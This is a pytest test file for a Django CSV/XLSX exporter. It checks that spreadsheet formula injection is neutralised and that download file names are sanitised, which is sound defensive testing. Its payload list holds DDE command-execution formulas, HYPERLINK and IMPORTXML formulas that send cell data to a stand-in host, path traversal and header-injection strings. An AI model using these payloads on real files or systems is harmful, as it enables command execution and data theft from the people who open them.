"""The exporter: what a spreadsheet finds in the file is what stood in the row, and it works nothing out."""

import csv
import io
import itertools
import re
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.http import Http404
from django.utils import translation
from django.utils.translation import gettext_lazy as _
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core import export
from core.export import Kind, Table

RIYADH = ZoneInfo("Asia/Riyadh")
SYMBOLS = "=+-@＝＋－＠"
CALLS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?"&A1,"x")',
    "SUM(A1:A9)",
    "IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
]  # fmt: skip
ODD = [
    *(f"{mark}=1+1" for mark in ("\t", "\r", "\n", "\r\n", "\0", " ", "\xa0", "\ufeff", "\u200f", "\u202e", "'", "''")),
    *(f"x{mark}=1+1" for mark in ("\t", "\n", "\r\n", ";", "; ", ";\t", '";', '",', '"\n', "\n\u200f")),
    *("\tx", "\rx", "\0x", "\0", "\t", "\r", "'\tx", "=", "+", "-", "@", "-5", "+966501234567", "@SUM(1;2)", "=\0"),
    *('"=1+1"', '=1+1"', "=1,=2", "=1;=2", '"";=2', "%0A=1", "\u061c=1", "\u3000＝1", "\x0b=1", "\x85=1", "\u2028=1"),
    *('=DDE("cmd";"/C calc";"x")', "-2+3+cmd|' /C calc'!A0", "=1+1|x", "@\u200b1", "+\t1", "\u00ad=1", "=A1&A2"),
    *("-\n-", "＝cmd|x"),
]  # fmt: skip
PAYLOADS = [*(symbol + call for symbol in SYMBOLS for call in CALLS), *ODD, *(f"{s}{s}1" for s in SYMBOLS)]
# As programs look at the beginning of a cell: they skip what is not seen.
WORKED_OUT = re.compile(
    "[\\s\x00-\x1f\x7f-\xa0\xad\u061c\u200b-\u200f\u2028-\u202f\u2060-\u2069\ufeff]*[=+\\-@＝＋－＠]"
)


def table(*rows: Any, headers: Any = ("A",), name: Any = "x") -> Table:
    return Table(name, headers, rows, RIYADH)


def file_of(whole: Table, kind: str = "csv") -> bytes:
    response: Any = export.response(whole, kind)
    content = bytes(response.getvalue())
    if file := getattr(response, "file_to_stream", None):
        file.close()
    return content


def csv_rows(whole: Table, **dialect: Any) -> list[list[str]]:
    text = file_of(whole).decode()
    assert text.startswith(export.BOM)
    return list(csv.reader(io.StringIO(text[1:], newline=""), **dialect))


def cells_of(content: bytes) -> list[tuple[Any, ...]]:
    return list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True))


def test_there_are_a_hundred_payloads() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_csv_holds_no_formula_and_the_text_comes_back(payload: str) -> None:
    rows = csv_rows(table([payload, "x", payload]))
    assert [export.unguarded(cell) for cell in rows[1]] == [payload, "x", payload]
    assert not rows[1][0].startswith(("\t", "\r", "\0"))
    # Cut by a program that separates as its country does, and knows no quotes in the middle of a cell.
    for mark in (",", ";", "\t"):
        cut = csv_rows(table([payload, payload], ["x", payload]), delimiter=mark)
        cells = [cell for row in cut for cell in row]
        assert [cell for cell in cells if WORKED_OUT.match(cell)] == []


def test_xlsx_holds_no_formula_and_the_text_comes_back() -> None:
    content = file_of(table(*([payload] for payload in PAYLOADS)), "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        styles = parts.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert not re.search("<f[ />]", sheet)
    assert sheet.count('t="inlineStr"') == len(PAYLOADS) + 1
    assert "quotePrefix" in styles  # it stays a text when somebody edits the cell
    # XML has no such characters, and one kind of line break.
    shown = [
        re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "�", text).replace("\r\n", "\n").replace("\r", "\n") for text in PAYLOADS
    ]
    found = [row[0].replace("\r\n", "\n").replace("\r", "\n") for row in cells_of(content)[1:]]
    assert found == shown


@given(st.text(st.sampled_from("=+-@'\t\r\n\0; ,\"x\u200f＝")))
@example("'=1")
@example(";\t=")
def test_what_is_guarded_comes_back_and_begins_no_formula(text: str) -> None:
    guarded = export.guarded(text)
    assert export.unguarded(guarded) == text
    assert not any(WORKED_OUT.match(cell) for cell in re.split("[;\t\r\n]", guarded) if cell)
    assert not guarded.startswith(("\t", "\r", "\0"))


@pytest.mark.parametrize(
    "text", ["", "عطر", "a-b", "a = b", "me@example.com", "5-7", "it's", "'quoted'", "a;b", "a\nb"]
)
def test_an_everyday_text_is_left_alone(text: str) -> None:
    assert export.guarded(text) == export.unguarded(text) == text


def test_numbers_stay_numbers_and_moments_are_the_stores() -> None:
    moment = datetime(2026, 8, 1, 21, 30, 15, 999, tzinfo=UTC)
    row = [5, -5, 0.25, Decimal("-12.50"), True, None, moment, date(2026, 8, 1), 2116149737, 12345678901234567, "0501"]
    headers = [str(place) for place in range(len(row))]
    with translation.override("en"):
        content, text = file_of(table(row, headers=headers), "xlsx"), file_of(table(row, headers=headers)).decode()
    assert text.splitlines()[1] == (
        '5,-5,0.25,-12.50,"Yes","","2026-08-02 00:30:15","2026-08-01",2116149737,"12345678901234567","0501"'
    )
    assert cells_of(content)[1] == (
        5, -5, 0.25, -12.5, "Yes", None, datetime.fromisoformat("2026-08-02T00:30:15"),
        datetime.fromisoformat("2026-08-01"),
        2116149737, "12345678901234567", "0501",
    )  # fmt: skip


@pytest.mark.parametrize("value", [float("nan"), float("-inf"), Decimal("NaN"), Decimal("Infinity")])
def test_what_is_no_number_is_nothing(value: Any) -> None:
    assert csv_rows(table([value, "x"])) == [["A"], ["", "x"]]
    assert cells_of(file_of(table([value, "x"]), "xlsx"))[1] == (None, "x")


def test_headers_are_in_the_readers_language_and_the_sheet_runs_his_way() -> None:
    whole = table(["x"], headers=[_("name"), _("phone")], name=_("orders"))
    for language, headers, is_rtl in (("ar", ["الاسم", "الجوال"], True), ("en", ["name", "phone"], False)):
        with translation.override(language):
            chunks = export.csv_chunks(whole)
            assert next(chunks).decode() == export.BOM + ",".join(f'"{header}"' for header in headers) + "\r\n"
            book = load_workbook(io.BytesIO(file_of(whole, "xlsx")))
        assert [cell.value for cell in next(book.worksheets[0].rows)] == headers
        assert book.worksheets[0].sheet_view.rightToLeft == is_rtl


def test_words_of_a_row_are_in_the_language_of_the_request_however_late_it_leaves() -> None:
    with translation.override("en"):
        chunks = export.csv_chunks(table([True, _("orders")]))
        next(chunks)
    with translation.override("ar"):
        assert next(chunks) == b'"Yes","orders"\r\n'


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("المشتركون 2026-08-01", "المشتركون-2026-08-01.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ('a"b\r\nX-Evil: 1', "a-b-X-Evil-1.csv"),
        ("\u202ecsv.exe", "csv.exe.csv"),
        ("...", "export.csv"),
        ("x" * 500, "x" * 100 + ".csv"),
    ],
)
def test_a_file_has_a_name_that_any_disk_takes(name: str, expected: str) -> None:
    assert export.file_name(name, "csv") == expected
    response = export.response(table(["x"], name=name), "csv")
    assert response.headers["Content-Disposition"].startswith("attachment; filename")
    assert "\n" not in response.headers["Content-Disposition"]


def test_the_kind_of_file_is_told() -> None:
    assert export.response(table(), "csv").headers["Content-Type"] == "text/csv; charset=utf-8"
    sheet: Any = export.response(table(), Kind.XLSX)
    assert sheet.headers["Content-Type"].endswith("spreadsheetml.sheet")
    assert sheet.headers["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    sheet.file_to_stream.close()
    with pytest.raises(Http404):
        export.response(table(), "exe")


def test_rows_leave_while_they_are_read() -> None:
    """Nothing is asked for before it is needed, and memory does not grow with the rows."""
    asked = 0

    def rows() -> Iterator[list[Any]]:
        nonlocal asked
        for asked in range(1, 60_001):
            yield [f"+9665{asked:08}", "نورة", asked]

    chunks = export.csv_chunks(Table("x", ["A"], rows(), RIYADH))
    next(chunks)
    assert asked == 0
    next(chunks)
    assert asked == export.ROWS_AT_ONCE
    tracemalloc.start()
    size = sum(len(chunk) for chunk in chunks)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert asked == 60_000
    assert size > 1_800_000
    assert peak < 1_500_000


def test_what_is_too_much_for_a_workbook_leaves_as_csv_and_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "ROWS_OF_A_WORKBOOK", 3)
    three, four = (table(*([number] for number in range(count)), name="orders") for count in (3, 4))
    assert cells_of(file_of(three, "xlsx")) == [("A",), (0,), (1,), (2,)]
    response = export.response(four, "xlsx")
    assert response.headers["Content-Disposition"] == 'attachment; filename="orders.csv"'
    assert file_of(four, "xlsx").decode() == export.BOM + '"A"\r\n0\r\n1\r\n2\r\n3\r\n'


def test_no_rows_is_a_file_with_headers() -> None:
    assert csv_rows(table(headers=["A", "B"])) == [["A", "B"]]
    assert cells_of(file_of(table(headers=["A", "B"]), "xlsx")) == [("A", "B")]
    assert list(itertools.islice(export.csv_chunks(table()), 5)) == [export.BOM.encode() + b'"A"\r\n']


def test_a_sheet_goes_through_the_disk() -> None:
    rows = ([f"+9665{number:08}", "نورة", number] for number in range(4_000))
    tracemalloc.start()
    file = export.workbook(Table("x", ["A"], rows, RIYADH))
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert file.seek(0, io.SEEK_END) > 50_000
    file.close()
    assert peak < 1_500_000
